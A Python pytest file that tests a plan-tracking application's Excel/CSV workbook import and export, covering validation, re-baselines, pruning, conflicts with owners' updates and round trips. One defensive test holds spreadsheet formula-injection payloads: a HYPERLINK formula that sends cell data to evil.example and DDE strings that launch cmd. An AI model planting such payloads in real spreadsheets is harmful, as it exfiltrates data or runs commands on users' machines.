"""The workbook front door on real databases: template to import, every problem at once, re-import as a
change with re-baselines, prune, and a round trip that changes nothing."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from models.audit import AuditEvent
from models.ledger.chain import decode_data
from models.ledger.verification import verify_database
from models.plan import Action, Milestone
from models.vocab import Status
from tests.workbook_helpers import column, template_rows, write_csv_folder, write_xlsx
from workbooks.plan_workbook import export_workbook, import_workbook
from workbooks.problems import ImportRejected
from workbooks.writer import write_template


def _head(engine: Engine) -> object:
    return verify_database(engine).head


def _counts(engine: Engine) -> tuple[int, ...]:
    with Session(engine) as session:
        return tuple(
            session.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
            for t in (Action, Milestone, AuditEvent)
        )


def test_the_template_imports_as_it_is(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    write_template(path)
    outcome = import_workbook(engine, path, actor="secretariat@example.org")
    assert outcome.report.created and outcome.report.added["actions"] == ["EX-01"]
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.percent, action.status, action.current_due) == (40, Status.IN_PROGRESS, date(2017, 9, 29))
    assert verify_database(engine).ok


def test_dry_run_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    write_template(path)
    before = _counts(engine)
    outcome = import_workbook(engine, path, actor="x", dry_run=True)
    assert outcome.dry_run and outcome.report.added["actions"] == ["EX-01"]
    assert _counts(engine) == before


def test_csv_folder_and_uk_dates(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    sheets["Actions"][1][column(sheets["Actions"], "percent")] = "0.4"
    folder = write_csv_folder(tmp_path / "plan", sheets)
    import_workbook(engine, folder, actor="x")
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.current_due, action.start, action.percent) == (date(2017, 9, 29), date(2017, 9, 4), 40)


def test_percent_formatted_cells_and_excel_dates(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    actions = sheets["Actions"]
    actions[1][column(actions, "percent")] = 0.55
    actions[1][column(actions, "due")] = datetime(2017, 10, 6)
    actions[1][column(actions, "status")] = "In Progress"
    actions[1][column(actions, "rag")] = "AMBER"
    letter = "ABCDEFGHIJKLM"[column(actions, "percent")]
    path = write_xlsx(tmp_path / "p.xlsx", sheets, {("Actions", f"{letter}2"): "0%"})
    import_workbook(engine, path, actor="x")
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.percent, action.current_due, action.rag.value if action.rag else None) == (
        55,
        date(2017, 10, 6),
        "amber",
    )


def test_every_problem_is_listed_and_nothing_changes(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    actions, people = sheets["Actions"], sheets["People"]
    good = actions[1]
    actions.append(list(good))  # duplicate ref EX-01 on row 3
    bad = list(good)
    bad[column(actions, "ref")] = "TAP-02"
    bad[column(actions, "area")] = "NOPE"
    bad[column(actions, "owner_email")] = "ghost@example.org"
    bad[column(actions, "due")] = "2017/12/11"
    bad[column(actions, "status")] = "finished"
    bad[column(actions, "percent")] = "140"
    actions.append(bad)  # row 4
    people[1][column(people, "manager_email")] = (
        "secretariat@example.org"  # owner -> director -> owner? see below
    )
    people[3][column(people, "manager_email")] = (
        "owner@example.org"  # secretariat -> owner -> secretariat: a loop
    )
    people[2][column(people, "away_from")] = "10/10/2017"
    people[2][column(people, "away_to")] = "01/10/2017"
    path = write_xlsx(tmp_path / "bad.xlsx", sheets)
    before = _counts(engine)
    with pytest.raises(ImportRejected) as caught:
        import_workbook(engine, path, actor="x")
    found = {(p.sheet, p.row, p.column) for p in caught.value.problems}
    letters = {
        name: "ABCDEFGHIJKLM"[column(actions, name)]
        for name in ("ref", "area", "owner_email", "due", "status", "percent")
    }
    for name in ("area", "owner_email", "due", "status", "percent"):
        assert ("Actions", 4, letters[name]) in found, name
    assert ("Actions", 3, letters["ref"]) in found
    assert any(p.sheet == "People" and "loop" in p.expected for p in caught.value.problems)
    assert any(p.sheet == "People" and "on or after away_from" in p.expected for p in caught.value.problems)
    message = str(next(p for p in caught.value.problems if p.row == 4 and p.column == letters["percent"]))
    assert (
        "bad.xlsx, sheet Actions, row 4, column" in message and "'140'" in message and "0 to 100" in message
    )
    assert _counts(engine) == before


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"just some text, not a workbook", "an Excel .xlsx workbook"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 512, "without a password"),
        (b"PK\x03\x04broken zip", "an Excel .xlsx workbook"),
    ],
)
def test_files_that_are_not_workbooks(engine: Engine, tmp_path: Path, content: bytes, expected: str) -> None:
    path = tmp_path / "plan.xlsx"
    path.write_bytes(content)
    with pytest.raises(ImportRejected, match=expected):
        import_workbook(engine, path, actor="x")


def test_missing_sheets_and_columns(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    del sheets["Areas"]
    sheets["Actions"][0][column(sheets["Actions"], "due")] = "deadline"
    sheets["Actions"][0].append("colour")
    with pytest.raises(ImportRejected) as caught:
        import_workbook(engine, write_xlsx(tmp_path / "p.xlsx", sheets), actor="x")
    expected = {p.expected for p in caught.value.problems}
    assert "a sheet named Areas" in expected and "a column headed 'due'" in expected


def test_reimport_is_a_change_with_rebaselines(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    actions = sheets["Actions"]
    actions[1][column(actions, "due")] = date(2017, 10, 27)
    actions[1][column(actions, "rebaseline_reason")] = "Auditor capacity moved to the front door"
    actions[1][column(actions, "title")] = "Monthly case audit programme, expanded"
    outcome = import_workbook(
        engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="secretariat@example.org"
    )
    assert outcome.report.rebaselined == ["EX-01"] and outcome.report.changed["actions"] == ["EX-01"]
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
        events = session.exec(
            select(AuditEvent).where(AuditEvent.ref == "EX-01").order_by(col(AuditEvent.seq))
        ).all()
    assert (action.original_due, action.current_due, action.rebaseline_count) == (
        date(2017, 9, 29),
        date(2017, 10, 27),
        1,
    )
    kinds = [e.kind for e in events]
    assert kinds == ["ActionAdded", "DueDateRebaselined", "ActionChanged"]
    rebaseline = decode_data(events[1].body)
    assert rebaseline["before"] == {"due": "2017-09-29"} and rebaseline["after"] == {"due": "2017-10-27"}
    assert rebaseline["reason"] == "Auditor capacity moved to the front door"
    change = decode_data(events[2].body)
    assert change["after"] == {"title": "Monthly case audit programme, expanded"}


def test_missing_items_are_listed_then_pruned_never_deleted(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    second = list(sheets["Actions"][1])
    second[column(sheets["Actions"], "ref")] = "TAP-02"
    sheets["Actions"].append(second)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    del sheets["Actions"][2]
    kept = import_workbook(engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="x")
    assert kept.report.missing["actions"] == ["TAP-02"] and not kept.report.cancelled
    pruned = import_workbook(engine, write_xlsx(tmp_path / "v3.xlsx", sheets), actor="x", prune=True)
    assert pruned.report.cancelled == ["TAP-02"]
    with Session(engine) as session:
        statuses = {a.ref: a.status for a in session.exec(select(Action))}
    assert statuses == {"EX-01": Status.IN_PROGRESS, "TAP-02": Status.CANCELLED}


def test_round_trip_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    from flows import demo_plan

    import_workbook(engine, demo_plan.WORKBOOK, actor="x")
    head = _head(engine)
    exported = tmp_path / "export.xlsx"
    assert export_workbook(engine, exported, None) == head
    outcome = import_workbook(engine, exported, actor="x")
    assert outcome.report.changes == 0 and not outcome.report.rebaselined
    assert _head(engine) == head


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_text_that_looks_like_a_formula_is_written_as_text_and_round_trips(
    engine: Engine, tmp_path: Path
) -> None:
    import openpyxl

    from models.db import unit_of_work
    from models.plans.spec import UpdateSpec
    from models.plans.updates import apply_update

    sheets = template_rows(tmp_path)
    sheets["Actions"][1][column(sheets["Actions"], "title")] = FORMULA
    sheets["Actions"][1][column(sheets["Actions"], "notes")] = "+cmd|' /C calc'!A0"
    import_workbook(engine, write_csv_folder(tmp_path / "plan", sheets), actor="x")  # CSV: text is text
    with unit_of_work(engine) as session:
        apply_update(
            session,
            UpdateSpec(
                "EX-01",
                by="owner@example.org",
                note="@SUM(1+1)*cmd|' /C calc'!A0",
                at=datetime(2017, 9, 20, 9, tzinfo=UTC),
            ),
        )
    exported = tmp_path / "export.xlsx"
    export_workbook(engine, exported, None)
    book = openpyxl.load_workbook(exported)  # not data_only: a formula would come back as a formula
    title = book["Actions"].cell(2, column(sheets["Actions"], "title") + 1)
    assert (title.value, title.data_type) == (FORMULA, "s")
    commentary = book["Updates"].cell(2, 7)
    assert (commentary.value, commentary.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    outcome = import_workbook(engine, exported, actor="x")
    assert outcome.report.changes == 0
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.title, action.notes) == (FORMULA, "+cmd|' /C calc'!A0")


# Issue #14, point 2: re-importing never undoes owners' updates.


def _owners_plan(tmp_path: Path) -> dict[str, list[list[object]]]:
    """A plan of the user's own, from the template: NS-01 and NS-02, both in progress, green, 40%."""
    sheets = template_rows(tmp_path)
    actions = sheets["Actions"]
    actions[1][column(actions, "ref")] = "NS-01"
    second = list(actions[1])
    second[column(actions, "ref")] = "NS-02"
    actions.append(second)
    sheets["Milestones"][1][column(sheets["Milestones"], "depends_on")] = "NS-01"
    return sheets


def _update(engine: Engine, ref: str, at: datetime, **fields: object) -> None:
    from models.db import unit_of_work
    from models.plans.spec import UpdateSpec
    from models.plans.updates import apply_update

    with unit_of_work(engine) as session:
        apply_update(session, UpdateSpec(ref, by="owner@example.org", at=at, **fields))  # type: ignore[arg-type]


def _progress(engine: Engine) -> dict[str, tuple[object, ...]]:
    with Session(engine) as session:
        return {
            a.ref: (a.status.value, a.rag.value if a.rag else None, a.percent, a.last_update_on)
            for a in session.exec(select(Action))
        }


def _events(engine: Engine, kind: str) -> list[dict[str, object]]:
    with Session(engine) as session:
        rows = session.exec(select(AuditEvent).where(AuditEvent.kind == kind).order_by(col(AuditEvent.seq)))
        return [{"ref": e.ref, **decode_data(e.body)} for e in rows]


def test_reimport_keeps_owners_newer_updates_and_lists_each_conflict(engine: Engine, tmp_path: Path) -> None:
    from models.vocab import RAG

    sheets = _owners_plan(tmp_path)
    original = write_xlsx(tmp_path / "plan.xlsx", sheets)
    import_workbook(engine, original, actor="x")
    _update(engine, "NS-01", datetime(2017, 10, 2, 9, tzinfo=UTC), status=Status.COMPLETE, percent=100)
    _update(engine, "NS-02", datetime(2017, 10, 3, 9, tzinfo=UTC), rag=RAG.RED)
    updated = _progress(engine)
    assert updated == {
        "NS-01": ("complete", "green", 100, date(2017, 10, 2)),
        "NS-02": ("in progress", "red", 40, date(2017, 10, 3)),
    }

    again = import_workbook(engine, original, actor="secretariat@example.org")
    report = again.report
    assert report.changes == 0 and not report.changed["actions"]
    assert [c.ref for c in report.conflicts] == ["NS-01", "NS-02"]
    first, second = report.conflicts
    assert first.kept == {"status": "complete", "percent": 100, "last_update": "2017-10-02"}
    assert first.workbook == {"status": "in progress", "percent": 40, "last_update": "2017-09-18"}
    assert (second.kept, second.latest_update) == (
        {"rag": "red", "last_update": "2017-10-03"},
        date(2017, 10, 3),
    )
    assert _progress(engine) == updated
    kept = _events(engine, "ProgressKept")
    assert [(e["ref"], e["kept"]) for e in kept] == [("NS-01", first.kept), ("NS-02", second.kept)]
    assert "newer than the workbook: kept status complete (workbook: in progress), percent 100" in str(
        kept[0]["reason"]
    )
    assert _events(engine, "PlanImported")[-1]["conflicts"] == ["NS-01", "NS-02"]
    assert not [e for e in _events(engine, "ActionChanged") if e["ref"] in ("NS-01", "NS-02")]

    # The secretariat adds one action to the master workbook: only that one is added.
    actions = sheets["Actions"]
    third = list(actions[1])
    third[column(actions, "ref")], third[column(actions, "title")] = "NS-03", "Recruit two team managers"
    actions.append(third)
    added = import_workbook(engine, write_xlsx(tmp_path / "plus.xlsx", sheets), actor="x").report
    assert added.added["actions"] == ["NS-03"] and added.changes == 1 and not added.changed
    assert [c.ref for c in added.conflicts] == ["NS-01", "NS-02"]
    assert {k: v for k, v in _progress(engine).items() if k != "NS-03"} == updated
    assert verify_database(engine).ok


def test_the_workbooks_progress_applies_where_no_update_is_newer(engine: Engine, tmp_path: Path) -> None:
    sheets = _owners_plan(tmp_path)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    _update(engine, "NS-01", datetime(2017, 10, 2, 9, tzinfo=UTC), percent=60)
    actions = sheets["Actions"]
    # NS-01: the workbook reports a later update (collected on paper on 9 October): it applies.
    actions[1][column(actions, "percent")] = "80%"
    actions[1][column(actions, "last_update")] = date(2017, 10, 9)
    # NS-02: nobody has posted an update: the workbook is the only source of its progress.
    actions[2][column(actions, "status")] = "complete"
    actions[2][column(actions, "percent")] = 100
    outcome = import_workbook(engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="x")
    assert outcome.report.changed["actions"] == ["NS-01", "NS-02"] and not outcome.report.conflicts
    assert _progress(engine) == {
        "NS-01": ("in progress", "green", 80, date(2017, 10, 9)),
        "NS-02": ("complete", "green", 100, date(2017, 9, 18)),
    }


def test_structure_still_changes_beside_a_kept_update(engine: Engine, tmp_path: Path) -> None:
    sheets = _owners_plan(tmp_path)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    _update(engine, "NS-01", datetime(2017, 10, 2, 9, tzinfo=UTC), status=Status.COMPLETE, percent=100)
    actions = sheets["Actions"]
    actions[1][column(actions, "title")] = "Monthly case audit programme, expanded"
    outcome = import_workbook(engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="x")
    assert outcome.report.changed["actions"] == ["NS-01"] and [c.ref for c in outcome.report.conflicts] == [
        "NS-01"
    ]
    change = [e for e in _events(engine, "ActionChanged") if e["ref"] == "NS-01"][-1]
    assert change["after"] == {"title": "Monthly case audit programme, expanded"}
    assert _progress(engine)["NS-01"][:3] == ("complete", "green", 100)


# Issue #14, point 3: export then import with Teams URLs stored.

TEAMS = "https://prod-00.westeurope.logic.azure.com/workflows/abc/triggers/manual/paths/invoke?sig=SECRET"


def test_round_trip_with_teams_urls_and_updates_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    import openpyxl

    from models.meetings import Board
    from models.people import Person
    from workbooks.format import BOARDS, PEOPLE

    sheets = _owners_plan(tmp_path)
    sheets["People"][1][column(sheets["People"], "teams_url")] = TEAMS
    sheets["Boards"][1][column(sheets["Boards"], "teams_url")] = TEAMS + "2"
    import_workbook(engine, write_xlsx(tmp_path / "plan.xlsx", sheets), actor="x")
    _update(engine, "NS-02", datetime(2017, 10, 3, 9, tzinfo=UTC), note="On track")
    head = _head(engine)
    exported = tmp_path / "export.xlsx"
    export_workbook(engine, exported, None, as_of=date(2017, 10, 4))
    book = openpyxl.load_workbook(exported)
    teams_column = PEOPLE.columns.index(PEOPLE["teams_url"]) + 1
    assert "(stored)" in [row[teams_column - 1] for row in book["People"].iter_rows(values_only=True)]
    assert book["Boards"].cell(2, BOARDS.columns.index(BOARDS["teams_url"]) + 1).value == "(stored)"
    assert TEAMS not in str([list(ws.iter_rows(values_only=True)) for ws in book])

    dry = import_workbook(engine, exported, actor="x", dry_run=True)
    assert dry.report.changes == 0 and not dry.report.conflicts
    outcome = import_workbook(engine, exported, actor="x")
    assert outcome.report.changes == 0 and not outcome.report.conflicts and not outcome.warnings
    assert _head(engine) == head
    with Session(engine) as session:
        owner = session.exec(select(Person).where(Person.email == "owner@example.org")).one()
        board = session.exec(select(Board)).one()
    assert (owner.teams_url, board.teams_url) == (TEAMS, TEAMS + "2")


# Issue #14, point 20: the template is a plan of its own.


def test_the_unedited_template_into_the_demos_database_changes_nothing_of_the_demo(
    engine: Engine, tmp_path: Path
) -> None:
    from flows import demo_plan
    from models.people import Person
    from models.plan import Plan

    import_workbook(engine, demo_plan.WORKBOOK, actor="x")
    demo = tmp_path / "demo.xlsx"
    export_workbook(engine, demo, None, as_of=date(2017, 9, 5))

    def state() -> tuple[list[str], ...]:
        with Session(engine) as session:
            return (
                sorted(str(a.model_dump()) for a in session.exec(select(Action))),
                sorted(str(m.model_dump()) for m in session.exec(select(Milestone))),
                sorted(str(p.model_dump()) for p in session.exec(select(Person))),
            )

    before = state()
    template = tmp_path / "plan.xlsx"
    write_template(template)
    outcome = import_workbook(engine, template, actor="x")
    assert outcome.report.created and outcome.report.plan == "Example Improvement Plan"
    assert outcome.report.added["actions"] == ["EX-01"] and not outcome.report.changed
    after = state()
    assert all(set(b) <= set(a) for b, a in zip(before, after, strict=True))  # the demo's rows, untouched
    with Session(engine) as session:
        assert len(session.exec(select(Plan)).all()) == 2
    assert import_workbook(engine, demo, actor="x").report.changes == 0


# Issue #14, point 25: the template's drop-downs and layout; the export's export-only columns.


def test_template_offers_people_areas_and_boards_and_is_laid_out_for_people(tmp_path: Path) -> None:
    import openpyxl

    path = tmp_path / "plan.xlsx"
    write_template(path)
    book = openpyxl.load_workbook(path)

    def lists(sheet: str) -> dict[str, str]:
        ws = book[sheet]
        return {str(dv.sqref).split(":")[0]: str(dv.formula1) for dv in ws.data_validations.dataValidation}

    actions = lists("Actions")
    assert "People!$A$2" in actions["D2"] and "COUNTA(People!$A:$A)" in actions["D2"]  # owner_email
    assert "Areas!$A$2" in actions["C2"]  # area
    assert "People!$A$2" in lists("Areas")["D2"]  # lead_email
    assert "People!$A$2" in lists("Milestones")["D2"]
    meetings = lists("Meetings")
    assert "Boards!$A$2" in meetings["A2"] and "Areas!$A$2" in meetings["C2"]
    people = lists("People")
    assert "People!$A$2" in people["D2"] and "People!$A$2" in people["E2"]  # manager, deputy
    ws = book["Actions"]
    assert ws.auto_filter.ref == "A1:M2"
    assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("1F4E79")
    assert ws.column_dimensions["B"].width >= 60  # the title
    assert [c.value for c in ws[1]][-1] == "notes"  # no export-only columns in the template


def test_export_adds_derived_rag_escalation_level_and_overdue_that_the_import_ignores(
    engine: Engine, tmp_path: Path
) -> None:
    import openpyxl

    from config.policy import load_policy
    from models.escalations import Escalation
    from models.sweep.run import sweep_plans

    sheets = _owners_plan(tmp_path)
    for name, value in (("status", "complete"), ("rag", "green"), ("percent", 100)):  # agreeing
        sheets["Actions"][2][column(sheets["Actions"], name)] = value
    import_workbook(engine, write_xlsx(tmp_path / "plan.xlsx", sheets), actor="x")
    sweep_plans(engine, load_policy(), date(2017, 10, 9))  # NS-01, due 29 September, climbs the ladder
    with Session(engine) as session:
        [escalation] = session.exec(select(Escalation).where(Escalation.item_ref == "NS-01")).all()
    assert escalation.level >= 2 and escalation.closed_on is None
    exported = tmp_path / "export.xlsx"
    export_workbook(engine, exported, None, as_of=date(2017, 10, 9))
    ws = openpyxl.load_workbook(exported)["Actions"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    picked = ["ref", "derived_rag", "escalation_level", "working_days_overdue"]
    found = [[r[column(rows, name)] for name in picked] for r in rows[1:]]
    # Due Friday 29 September; Monday 9 October is 6 working days later.
    assert found == [["NS-01", "red", escalation.level, 6], ["NS-02", "complete", None, None]]
    fills = {c.value: c.fill.fgColor.rgb[-6:] for c in ws[1]}
    assert fills["derived_rag"] == "6E6E6E" and fills["ref*"] == "1F4E79"  # export only: grey
    readme = [r[0] for r in openpyxl.load_workbook(exported)["Read me"].iter_rows(values_only=True)]
    assert any("the import ignores them" in str(line) for line in readme)
    assert import_workbook(engine, exported, actor="x").report.changes == 0


def test_a_milestones_status_from_its_owner_survives_a_reimport(engine: Engine, tmp_path: Path) -> None:
    """Milestones have no last_update column: once their owner has reported, the status is theirs."""
    sheets = _owners_plan(tmp_path)
    original = write_xlsx(tmp_path / "plan.xlsx", sheets)
    import_workbook(engine, original, actor="x")
    from models.db import unit_of_work
    from models.plans.spec import UpdateSpec
    from models.plans.updates import apply_update

    with unit_of_work(engine) as session:
        spec = UpdateSpec("EX-MS-01", by="director@example.org", status=Status.COMPLETE, note="Sent")
        apply_update(session, spec.__class__(**{**spec.__dict__, "at": datetime(2017, 12, 8, 9, tzinfo=UTC)}))
    report = import_workbook(engine, original, actor="x").report
    assert [(c.ref, c.kept, c.workbook) for c in report.conflicts] == [
        ("EX-MS-01", {"status": "complete"}, {"status": "not started"})
    ]
    with Session(engine) as session:
        assert session.exec(select(Milestone)).one().status is Status.COMPLETE


def test_a_milestones_status_changes_through_the_workbook_only_until_its_first_update(
    engine: Engine, tmp_path: Path
) -> None:
    """Issue #14 fix 11: with no last_update column for milestones, the workbook's status applies until the
    first update; afterwards only updates change it, on every import (and the README says so)."""
    sheets = _owners_plan(tmp_path)
    status = column(sheets["Milestones"], "status")

    def imported(value: str) -> list[object]:
        sheets["Milestones"][1][status] = value
        path = write_xlsx(tmp_path / f"plan-{value.replace(' ', '-')}.xlsx", sheets)
        report = import_workbook(engine, path, actor="x").report
        return [(c.ref, c.kept, c.workbook) for c in report.conflicts]

    def stored() -> Status:
        with Session(engine) as session:
            return session.exec(select(Milestone)).one().status

    assert imported("not started") == [] and stored() is Status.NOT_STARTED
    assert imported("in progress") == [] and stored() is Status.IN_PROGRESS  # nobody has reported yet
    from models.db import unit_of_work
    from models.plans.spec import UpdateSpec
    from models.plans.updates import apply_update

    with unit_of_work(engine) as session:
        at = datetime(2017, 12, 8, 9, tzinfo=UTC)
        apply_update(session, UpdateSpec("EX-MS-01", "director@example.org", status=Status.COMPLETE, at=at))
    for value in ("in progress", "deferred", "in progress"):
        assert imported(value) == [("EX-MS-01", {"status": "complete"}, {"status": value})]
        assert stored() is Status.COMPLETE
    readme = " ".join((Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8").split())
    assert "a milestone's status changes through the workbook only until its first update" in readme
